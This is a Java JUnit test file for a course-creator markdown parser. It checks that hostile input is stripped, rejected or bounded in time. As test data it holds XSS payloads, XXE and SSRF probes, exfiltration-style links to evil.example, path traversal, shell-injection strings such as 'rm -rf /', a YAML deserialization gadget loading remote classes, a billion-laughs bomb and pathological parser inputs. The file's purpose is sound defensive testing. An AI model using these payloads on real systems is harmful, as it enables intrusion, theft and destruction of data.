package dev.coursecreator.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import dev.coursecreator.markdown.ParsedCourse.Invalid;
import dev.coursecreator.markdown.ParsedCourse.Valid;
import dev.coursecreator.model.Slug;
import dev.coursecreator.model.message.MessageCodec;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Text by somebody who means harm: it becomes harmless slides and speech, or errors; it never breaks anything. */
class HostileMarkdownTest {

    /** An eighth of what a request may have: what takes time with the square of the length takes for ever here, too. */
    private static final int LONGEST = 1 << 17;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "Before <b onclick=alert(1)>bold</b> after.",
                "<iframe src=\"https://evil.example/\"></iframe>",
                "<svg onload=alert(1)></svg>",
                "<style>@import 'https://evil.example/'</style>",
                "<?php system('id'); ?>",
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<a href=\"javascript:alert(1)\">click</a>",
                "# <script>alert(1)</script> A heading",
                "- <script>alert(1)</script> an item",
                "| a | b |\n|---|---|\n| <script>alert(1)</script> | c |"
            })
    void rawHtmlIsNeitherShownNorSaidNorKept(String html) {
        var script = json("# Course\n\nText.\n\n" + html + "\n\nMore.\n");
        assertThat(script)
                .doesNotContain(
                        "<script",
                        "<img",
                        "<b ",
                        "<iframe",
                        "<svg",
                        "<style",
                        "<?php",
                        "<!",
                        "<a ",
                        "onclick",
                        "evil.example");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![a picture](https://evil.example/track.png)",
                "![a picture](file:///etc/passwd)",
                "![a picture](../../../../etc/passwd)",
                "![a picture][ref]\n\n[ref]: https://evil.example/track.png",
                "[a link](javascript:alert(1))",
                "[a link](https://evil.example/?secret)",
                "[a link](data:text/html;base64,PHNjcmlwdD4=)",
                "Text ![a picture](http://169.254.169.254/latest/meta-data) in a line."
            })
    void nothingThatACourseNamesIsKeptSoNothingCanBeFetched(String link) {
        var script = json("# Course\n\nText.\n\n" + link + "\n\nMore.\n");
        assertThat(script).doesNotContain("evil.example", "/etc/passwd", "javascript:", "data:text", "169.254.169.254");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../etc/passwd",
                "/etc/passwd",
                "..\\\\..\\\\windows",
                "a/../../b",
                "con|nul:aux*",
                "$(touch x) `id` ; rm -rf /",
                "-i -filter_complex movie=/etc/passwd",
                "%2e%2e%2f",
                "a\u0000b",
                "\u202egnp.exe"
            })
    void aTitleNamesNoPathAndNoOption(String title) {
        for (var markdown : new String[] {
            "# " + title + "\n\nText.\n", "---\ntitle: \"" + title.replace("\"", "") + "\"\n---\n\nText.\n"
        }) {
            if (CourseMarkdown.parse(markdown) instanceof Valid valid) {
                assertThat(Slug.of(valid.script().title(), "course"))
                        .as(markdown)
                        .matches("[\\p{L}\\p{N}]+(-[\\p{L}\\p{N}]+)*");
                assertThat(valid.script().title()).doesNotContain("\u0000", "\u202e");
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
                "title: !!java.io.File [/etc/passwd]",
                "title: {a: [{b: [{c: [{d: [{e: [{f: 1}]}]}]}]}]}",
                "title: &a [*a]",
                "language: en; movie=/etc/passwd",
                "language: ../../en",
                "voice: [1, 2]"
            })
    void theFrontMatterHasTextsOnly(String yaml) {
        assertThat(CourseMarkdown.parse("---\n" + yaml + "\n---\n\n# Course\n\nText.\n"))
                .isInstanceOf(Invalid.class);
    }

    /** A billion laughs: ten aliases of ten aliases of ten aliases. */
    @Test
    void aliasesThatWouldGrowAreRefused() {
        var yaml = new StringBuilder("---\na0: &a0 [ha, ha, ha, ha, ha, ha, ha, ha, ha, ha]\n");
        for (int i = 1; i < 12; i++) {
            yaml.append("a%d: &a%d [%s]\n"
                    .formatted(i, i, String.join(", ", java.util.Collections.nCopies(10, "*a" + (i - 1)))));
        }
        assertThat(CourseMarkdown.parse(yaml + "---\n\n# Course\n\nText.\n")).isInstanceOf(Invalid.class);
    }

    static Stream<String> monsters() {
        return Stream.of(
                "> ".repeat(LONGEST / 2),
                "- ".repeat(LONGEST / 2),
                "1. ".repeat(LONGEST / 3),
                "*".repeat(LONGEST),
                "*a_ ".repeat(LONGEST / 4),
                "**a ".repeat(LONGEST / 4),
                "[".repeat(LONGEST),
                "![".repeat(LONGEST / 2),
                "[a](".repeat(LONGEST / 4),
                "[a](<b".repeat(LONGEST / 6),
                "[^a]: ".repeat(LONGEST / 6),
                "<".repeat(LONGEST),
                "<!--".repeat(LONGEST / 4),
                "<a b='".repeat(LONGEST / 6),
                "&".repeat(LONGEST),
                "\\".repeat(LONGEST),
                "`".repeat(LONGEST),
                ".".repeat(LONGEST),
                "!\"".repeat(LONGEST / 2),
                "e.g. ".repeat(LONGEST / 5),
                "a. (\"".repeat(LONGEST / 5),
                ("a." + " ".repeat(100)).repeat(LONGEST / 102),
                "(pause: ".repeat(LONGEST / 8),
                "a@".repeat(LONGEST / 2),
                "www.".repeat(LONGEST / 4),
                "http://a.".repeat(LONGEST / 9),
                "~~a ".repeat(LONGEST / 4),
                "a".repeat(LONGEST),
                "a. ".repeat(LONGEST / 3),
                "# a\n".repeat(LONGEST / 4),
                "## a\n\n".repeat(LONGEST / 6),
                "```\n".repeat(LONGEST / 4),
                "|".repeat(LONGEST),
                "|a".repeat(LONGEST / 4) + "|\n" + "|-".repeat(LONGEST / 4) + "|\n",
                "\u202e".repeat(LONGEST / 4),
                "\ud83d".repeat(LONGEST / 4),
                "\u0000".repeat(LONGEST),
                "\t".repeat(LONGEST),
                "\r".repeat(LONGEST / 2),
                "---\n" + "[".repeat(90_000) + "\n---\n",
                "---\n" + "a: {".repeat(20_000) + "\n---\n",
                "---\n" + "? ".repeat(40_000) + "\n---\n",
                "---\n" + "- ".repeat(40_000) + "\n---\n");
    }

    /** The time limit is no benchmark: it is a hundred times what it takes, and what it catches takes for ever. */
    @ParameterizedTest
    @MethodSource("monsters")
    @Timeout(value = 120, unit = TimeUnit.SECONDS, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void whateverIsPiledUpHasAnEnd(String monster) {
        assertThat(CourseMarkdown.parse(monster.startsWith("---") ? monster : "# Course\n\nText.\n\n" + monster))
                .isNotNull();
    }

    private static String json(String markdown) {
        return CourseMarkdown.parse(markdown) instanceof Valid valid
                ? MessageCodec.json().writeValueAsString(valid.script())
                : "";
    }
}
